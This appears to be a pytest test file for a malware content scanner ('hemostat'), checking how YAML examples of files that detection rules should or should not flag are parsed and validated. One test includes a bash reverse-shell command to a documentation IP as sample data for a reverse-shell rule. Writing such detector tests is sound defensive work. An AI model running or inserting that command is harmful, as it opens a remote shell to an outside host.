import pytest

from hemostat.detect.content.examples import noise, own_examples, read_examples, wrong_examples
from hemostat.detect.content.scanners import own_scanners
from hemostat.model.errors import DataError
from hemostat.model.records import Provenance

ONE = """
linux.content.x:
  fires:
    - {path: /tmp/a, mode: "0755", reasons: [temporary], state: changed, text: "häh"}
  quiet:
    - {path: /b, parts: [{latin1: 'a\\xff'}, {base64: YQ==}, {noise: 5}, {elf: {imports: [read]}}]}
"""


def test_a_file_is_described_in_text() -> None:
    fires, quiet = read_examples("a.yaml", ONE)
    assert (fires.rule, fires.fires, fires.content) == ("linux.content.x", True, "häh".encode())
    assert (fires.candidate.mode, fires.candidate.state) == (0o755, Provenance.CHANGED)
    assert quiet.content[:3] == b"a\xffa"
    assert quiet.content[3:8] == noise(5)
    assert quiet.content[8:12] == b"\x7fELF"
    assert str(fires) == "/tmp/a (temporary): häh"


@pytest.mark.parametrize(
    ("case", "said"),
    [
        ("{path: /a, txt: b}", "unknown key `txt`"),
        ("{path: /a}", "no content"),
        ("{path: /a, text: b, reasons: [bored]}", "bored"),
        ("{path: /a, base64: '%'}", "base64"),
        ("{text: b}", "path"),
        ("{path: /a, text: b, state: lost}", "lost"),
    ],
)
def test_what_is_wrong_with_a_description_is_named(case: str, said: str) -> None:
    with pytest.raises(DataError, match=said) as raised:
        read_examples("a.yaml", f"linux.content.x:\n  fires:\n    - {case}\n")
    assert "linux.content.x, fires 1" in str(raised.value)


def test_an_example_that_does_not_hold_is_given_back() -> None:
    wrong = read_examples(
        "a.yaml",
        "linux.content.reverse-shell:\n  fires: [{path: /a, text: nothing}]\n"
        "  quiet: [{path: /a, text: 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'}]\n",
    )
    assert list(wrong_examples(wrong, own_scanners())) == list(wrong)


def test_all_of_ours_hold() -> None:
    assert [str(each) for each in wrong_examples(own_examples(), own_scanners())] == []
